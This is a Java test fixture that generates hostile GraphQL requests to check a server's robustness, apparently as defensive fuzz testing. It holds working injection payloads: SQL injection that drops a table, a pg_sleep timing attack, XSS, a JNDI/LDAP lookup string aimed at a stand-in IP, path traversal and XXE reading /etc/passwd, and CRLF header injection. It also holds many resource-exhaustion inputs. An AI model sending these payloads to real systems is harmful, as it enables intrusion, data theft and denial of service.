package org.dixit.hostile;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.IntFunction;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.dixit.testing.GraphQl;

/**
 * Requests of clients that mean no good, by families: each the text of a GraphQL request's JSON. Some of them are harmless in
 * the end, and may be answered.
 */
record Hostile(String name, String json) {

    private static final Pattern HALF = Pattern.compile("[\\x{d800}-\\x{dbff}](?![\\x{dc00}-\\x{dfff}])|(?<![\\x{d800}-\\x{dbff}])[\\x{dc00}-\\x{dfff}]");
    private static final Path FILES = Path.of("src/test/resources/hostile");

    /** Where a client may put a text, as {@code $text}. */
    private static final List<String> TEXTS = List.of(
            "actor(key: $text) { key }", "event(key: $text) { key }", "node(id: $text) { id }", "nodes(ids: [$text]) { id }",
            "search(text: $text) { totalCount }", "search(text: \"dam\", after: $text) { totalCount }",
            "claims(after: $text) { totalCount nodes { key } }", "claims(filter: {text: $text}) { totalCount }",
            "claims(filter: {party: [$text]}) { totalCount }", "events(filter: {dossier: $text}) { totalCount }",
            "events(filter: {occurred: {from: $text}}) { totalCount }", "documents(filter: {language: [$text]}) { totalCount }",
            "events(first: 1) { nodes { title(language: $text) } }", "questions(first: 1) { nodes { assessment(at: $text) { agreed } } }");

    private static final Map<String, String> WORDS = Map.ofEntries(
            Map.entry("quotes", "'\"`´'' \"\" \\' \\\""),
            Map.entry("SQL", "'); drop table claim cascade; --"),
            Map.entry("SQL that waits", "x' || pg_sleep(10) || '"),
            Map.entry("SQL for JSON", "$.key ? (@ like_regex \"(a+)+$\")"),
            Map.entry("parameters", "$1 ${x} #{x} %s %n :value ?"),
            Map.entry("script", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
            Map.entry("look-up", "${jndi:ldap://203.0.113.1/x}"),
            Map.entry("path", "../../../../etc/passwd\\..\\..\\windows"),
            Map.entry("NUL", "a\0b"),
            Map.entry("half a character", "a\ud800b"),
            Map.entry("halves in the wrong order", "\udc00\ud800"),
            Map.entry("right to left", "\u202eabc\u202c\u2066\ufeff\u0000".replace("\u0000", "")),
            Map.entry("marks on marks", "e" + "\u0301".repeat(2_000)),
            Map.entry("long", "x".repeat(100_000)),
            Map.entry("a word of many", "a & b | !c <-> d:* ".repeat(500)),
            Map.entry("nothing", ""),
            Map.entry("lines", "a\r\nX-Evil: 1\r\n\r\nb"));

    private static final List<String> VALUES = List.of("null", "true", "0", "-1", "101", "2147483648", "-9223372036854775809", "9223372036854775808",
            "1e10000000", "1e999", "0.1", "-0.0", "\"1\"", "\"NaN\"", "[]", "[1]", "[[[[1]]]]", "{}", "{\"a\": {\"b\": 1}}", "\"STATE\"", "9".repeat(10_000));

    private static final List<String> VALUED = List.of("Int:claims(first: $value) { totalCount }", "[String!]:actors(filter: {key: $value}) { totalCount }",
            "Float:question(key: \"x\") { assessment(tolerance: $value) { agreed } }", "[ActorKind!]:actors(filter: {kind: $value}) { totalCount }",
            "EventFilter:events(filter: $value) { totalCount }");

    static List<Hostile> all() {
        var all = new ArrayList<Hostile>();
        all.addAll(texts());
        all.addAll(values());
        all.addAll(shapes());
        all.addAll(files());
        all.addAll(requests());
        return all;
    }

    private static List<Hostile> texts() {
        return TEXTS.stream().flatMap(field -> WORDS.entrySet().stream().map(words -> {
            var type = field.startsWith("node") ? "ID!" : field.contains("from:") || field.contains("at:") ? "Date" : "String!";
            return of(words.getKey() + " in " + field, "query($text: " + type + ") { " + field + " }", Map.of("text", words.getValue()));
        })).toList();
    }

    private static List<Hostile> values() {
        return VALUED.stream().flatMap(valued -> VALUES.stream().map(value -> {
            var parts = valued.split(":", 2);
            return new Hostile(value.substring(0, Math.min(20, value.length())) + " as " + parts[0],
                    "{\"query\": " + GraphQl.text("query($value: " + parts[0] + ") { " + parts[1] + " }") + ", \"variables\": {\"value\": " + value + "}}");
        })).toList();
    }

    private static List<Hostile> shapes() {
        return List.of(
                document("deep", "{ event(key: \"x\") " + "{ partOf ".repeat(300) + "{ key }" + " }".repeat(301)),
                document("deep in pages", "{ events " + "{ nodes { parts ".repeat(40) + "{ totalCount }" + " } }".repeat(40) + " }"),
                document("braces alone", "{".repeat(3_000)),
                document("lists in lists", "{ nodes(ids: " + "[".repeat(900) + "]".repeat(900) + ") { id } }"),
                document("objects in objects", "{ events(filter: " + "{a: ".repeat(300) + "1" + "}".repeat(300) + ") { totalCount } }"),
                document("types in types", "query($x: " + "[".repeat(400) + "Int" + "]".repeat(400) + ") { __typename }"),
                document("many aliases", "{ " + many(500, i -> "a" + i + ": __typename ") + "}"),
                document("many fields", "{ claims { nodes { " + "key ".repeat(3_000) + "} } }"),
                document("many directives", "{ __typename " + "@include(if: true) ".repeat(200) + "}"),
                document("many unknown directives", "{ __typename " + "@a".repeat(4_000) + " }"),
                document("many fragments", "{ " + many(100, i -> "...f" + i + " ") + "} " + many(100, i -> "fragment f" + i + " on Query { __typename } ")),
                document("many inline fragments", "{ " + "... on Query { ".repeat(120) + "__typename" + " }".repeat(121)),
                document("many operations", many(150, i -> "query q" + i + " { __typename } ")),
                document("many variables", "query(" + many(150, i -> "$v" + i + ": Int ") + ") { __typename }"),
                document("many commas", "{ __typename " + ",".repeat(15_000) + "}"),
                document("many comments", "#\n".repeat(7_000) + "{ __typename }"),
                document("too long a comment", "#" + "x".repeat(200_000) + "\n{ __typename }"),
                document("a long name", "{ " + "a".repeat(15_000) + " }"),
                document("a long integer", "{ claims(first: " + "9".repeat(15_000) + ") { totalCount } }"),
                document("a large exponent", "{ question(key: \"x\") { assessment(tolerance: 1e10000000) { agreed } } }"),
                document("an integer that is too large by one", "{ claims(first: 2147483648) { totalCount } }"),
                document("an integer as a text", "{ claims(first: \"9223372036854775808\") { totalCount } }"),
                document("many roots", "{ " + many(300, i -> "c" + i + ": claims(first: 100) { totalCount } ") + "}"),
                document("conflicts", "{ " + many(150, i -> "x: __type(name: \"a" + i + "\") { name } ") + "}"),
                document("introspection in circles", "{ __schema { types " + "{ fields { type ".repeat(20) + "{ name }" + " } }".repeat(20) + " } }"),
                document("introspection often", "{ " + many(20, i -> "s" + i + ": __schema { types { name fields { name } } } ") + "}"),
                document("an unknown enum value", "{ actors(filter: {kind: [PLANET]}) { totalCount } }"),
                document("an enum value as a text", "{ actors(orderBy: {field: \"KEY\", direction: \"ASC\"}) { totalCount } }"),
                document("an unfinished text", "{ actor(key: \"abc"), document("an unfinished block", "{ actor(key: \"\"\"abc"),
                document("an escape of half a character", "{ actor(key: \"\\uD800\") { key } }"),
                document("an escape that is none", "{ actor(key: \"\\x41 \\u12\") { key } }"),
                document("an escaped NUL", "{ actor(key: \"a\\u0000\") { key } }"),
                document("a NUL", "{ actor\0 }"), document("control characters", "\u0001\u0002{ __typename }\u001b"),
                document("nothing but space", "   \n\t"), document("SQL", "select * from claim"), document("a page", "<html><script>alert(1)</script>"),
                document("a mark of byte order", "\ufeff{ __typename }"), document("emoji", "{ \ud83d\ude00 }"));
    }

    private static List<Hostile> files() {
        try (Stream<Path> files = Files.list(FILES)) {
            var all = new ArrayList<Hostile>();
            for (var file : files.sorted().toList()) {
                all.add(document(file.getFileName().toString(), Files.readString(file)));
            }
            return all;
        } catch (IOException broken) {
            throw new UncheckedIOException(broken);
        }
    }

    private static List<Hostile> requests() {
        return Stream.of("", "null", "true", "1", "\"{ __typename }\"", "[]", "[{\"query\": \"{ __typename }\"}]", "{}", "{\"query\": null}", "{\"query\": 1}",
                "{\"query\": [\"{ __typename }\"]}", "{\"query\": \"{ __typename }\"", "{\"query\": \"{ __typename }\"} trailing",
                "{\"query\": \"{ __typename }\", \"query\": \"mutation { x }\"}", "{'query': '{ __typename }'}", "{\"query\": \"{ __typename }\", \"variables\": []}",
                "{\"query\": \"{ __typename }\", \"variables\": \"{}\"}", "{\"query\": \"{ __typename }\", \"operationName\": {}}",
                "{\"query\": \"{ __typename }\", \"operationName\": \"none\"}", "{\"query\": \"{ __typename }\", \"extensions\": 1}",
                "{\"query\": \"{ __typename }\", \"extensions\": {\"persistedQuery\": 1}}", "{\"extensions\": {\"persistedQuery\": {\"version\": 1, \"sha256Hash\": \"none\"}}}",
                "{\"query\": \"{ __typename }\", \"extensions\": {\"persistedQuery\": {\"version\": 1, \"sha256Hash\": \"none\"}}}",
                "{\"extensions\": {\"persistedQuery\": {\"version\": 2, \"sha256Hash\": 1}}}", "{\"__proto__\": {\"query\": \"{ __typename }\"}}",
                "[".repeat(50_000), "{\"a\":".repeat(20_000), "{\"query\": \"{ __typename }\", \"variables\": " + "[".repeat(5_000) + "]".repeat(5_000) + "}",
                "{\"query\": \"{ __typename }\", \"variables\": {\"n\": " + "1".repeat(200_000) + "}}",
                "{\"query\": \"{ __typename }\", \"variables\": {\"n\": -1e-999999999}}", "{\"query\": \"{ __typename }\", \"variables\": {\"n\": 1e2147483648}}",
                "{\"query\": \"{ __typename }\", \"variables\": {\"n\": NaN}}", "{\"query\": \"{ __typename }\", \"x\": \"" + "x".repeat(1_000_000) + "\"}",
                "{\"query\": \"{ actor(key: \\\"\\ud800\\\") { key } }\"}", "\u0000", "query={__typename}", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>")
                .map(text -> new Hostile("the request " + text.substring(0, Math.min(60, text.length())), text))
                .toList();
    }

    private static String many(int times, IntFunction<String> each) {
        return IntStream.range(0, times).mapToObj(each).collect(Collectors.joining());
    }

    private static Hostile document(String name, String document) {
        return of(name, document, Map.of());
    }

    private static Hostile of(String name, String document, Map<String, ?> variables) {
        return new Hostile(name, escaped(GraphQl.text(Map.of("query", document, "variables", variables))));
    }

    /** Halves of characters as JSON lets them through: as bytes they would be no text. */
    private static String escaped(String json) {
        return HALF.matcher(json).replaceAll(half -> String.format("\\\\u%04x", (int) half.group().charAt(0)));
    }

    @Override
    public String toString() {
        return name;
    }
}
